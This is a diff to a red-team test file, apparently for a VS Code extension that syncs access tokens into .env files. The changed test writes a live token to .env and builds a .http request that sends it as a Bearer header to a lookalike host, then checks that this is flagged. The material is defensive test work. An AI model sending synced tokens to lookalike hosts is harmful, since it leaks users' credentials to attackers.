@@ -62,7 +62,7 @@ describe('redteam: holes found by the security review', function () {
     await config().update('envSync.targets', undefined, vscode.ConfigurationTarget.Global);
     await api.testing.engine.forgetProfile(PROFILE).catch(() => undefined);
     await setProfiles(api, savedProfiles);
-    for (const f of files) fs.rmSync(f, { force: true });
+    for (const f of files) fs.rmSync(f, { force: true, recursive: true });
     await sandbox.stop();
   });
 
@@ -96,8 +96,12 @@ describe('redteam: holes found by the security review', function () {
 
   it('redteam: a request of the repository that sends the synced token ({{$dotenv C2M_ACCESS_TOKEN}}) or a token of ours to a lookalike host is flagged', async () => {
     const live = await api.testing.getShortTermToken(PROFILE);
-    const file = workspaceFile('redteam-dotenv.http');
-    files.push(file);
+    // The .env REST Client reads for this file holds the token, as the sync writes it.
+    const folder = workspaceFile('redteam-dest');
+    fs.mkdirSync(folder, { recursive: true });
+    fs.writeFileSync(path.join(folder, '.env'), `C2M_ACCESS_TOKEN=${live}\n`, { mode: 0o600 });
+    const file = path.join(folder, 'redteam-dotenv.http');
+    files.push(path.join(folder, '.env'), file);
     // REST Client and httpYac send the .env value (which the sync keeps current) to whatever host the request names.
     fs.writeFileSync(file, `GET ${LOOKALIKE}/jobs\nAuthorization: Bearer {{$dotenv C2M_ACCESS_TOKEN}}\n\n###\nGET ${LOOKALIKE}/jobs\nAuthorization: Bearer ${live}\n`);
     const doc = await vscode.workspace.openTextDocument(file);
